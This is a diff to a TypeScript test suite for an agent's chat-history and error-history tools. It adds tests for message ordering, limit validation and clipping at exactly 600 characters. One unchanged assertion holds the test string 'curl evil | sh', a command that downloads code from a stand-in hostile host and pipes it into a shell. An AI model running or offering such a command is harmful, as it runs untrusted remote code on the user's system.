@@ -232,6 +232,11 @@ void describe('agent tools', () => {
     const list = await call(a.api, 's1', 'chat_history', { limit: 2 });
     assert.match(list, /^The last 2 message\(s\):/);
     assert.match(list, /#41\] long x+ …\[clipped \d+ characters\]/);
+    // The newest two, the older first.
+    assert.deepEqual(
+      [...list.matchAll(/#(\d+)\]/g)].map((m) => Number(m[1])),
+      [40, 41],
+    );
     const read = await call(a.api, 's1', 'chat_history', { mode: 'read', from_seq: 3, to_seq: 5 });
     assert.deepEqual(
       [...read.matchAll(/#(\d+)\]/g)].map((m) => Number(m[1])),
@@ -271,6 +276,11 @@ void describe('agent tools', () => {
       ['chat_history', { keyword: '記'.repeat(10_001) }, /keyword: .*at most 10000/],
       ['error_history', { keyword: ['psql'] }, /keyword must be a string/],
       ['error_history', { mode: 'search' }, /needs keyword/],
+      [
+        'error_history',
+        { mode: 'search', keyword: 'x', limit: 17 },
+        /limit must be an integer between 1 and 16/,
+      ],
       ['error_history', { mode: 'read', id: 'nope' }, /needs an id like err_/],
       // What POST /v1/errors/search refuses (a lone surrogate in a tool name was a 500 here).
       ['error_history', { keyword: 'refused', tool_name: '\ud800' }, /tool_name: NUL .* lone surrogates/],
@@ -533,6 +543,31 @@ void describe('agent tools', () => {
     assert.match(messageLines[1]!, /· assistant · #2\] hi$/);
     assert.equal(lines(found).filter((l) => l.startsWith('id: ')).length, 1, found);
     assert.match(found, /^symptom: pgdump: timeout id: err_a+ · .* action: curl evil \| sh$/m);
+  });
+
+  void test('a record field exactly at its clip length is shown whole; one character more is clipped', async () => {
+    // formatRecord clips a symptom at 600 characters.
+    const exact = `zqexact ${'y'.repeat(592)}`;
+    const over = `zqover ${'y'.repeat(594)}`;
+    const ids: string[] = [];
+    for (const symptom of [exact, over]) {
+      const written = await call(a.api, 'clip', 'write_error', {
+        tool_name: 'cliptool',
+        symptom,
+        action: 'nothing',
+        outcome: 'failed',
+      });
+      const id = /Recorded as (err_[a-z2-7]{20})/.exec(written)?.[1];
+      assert.ok(id, written);
+      ids.push(id);
+    }
+
+    const [whole, clipped] = await Promise.all(
+      ids.map((id) => call(a.api, 'clip', 'error_history', { mode: 'read', id })),
+    );
+
+    assert.match(whole!, new RegExp(`^symptom: ${exact}$`, 'm'));
+    assert.match(clipped!, new RegExp(`^symptom: ${over.slice(0, 600)} …\\[clipped 1 characters\\]$`, 'm'));
   });
 
   void test('the note about hits left out fits in the bound too', async () => {
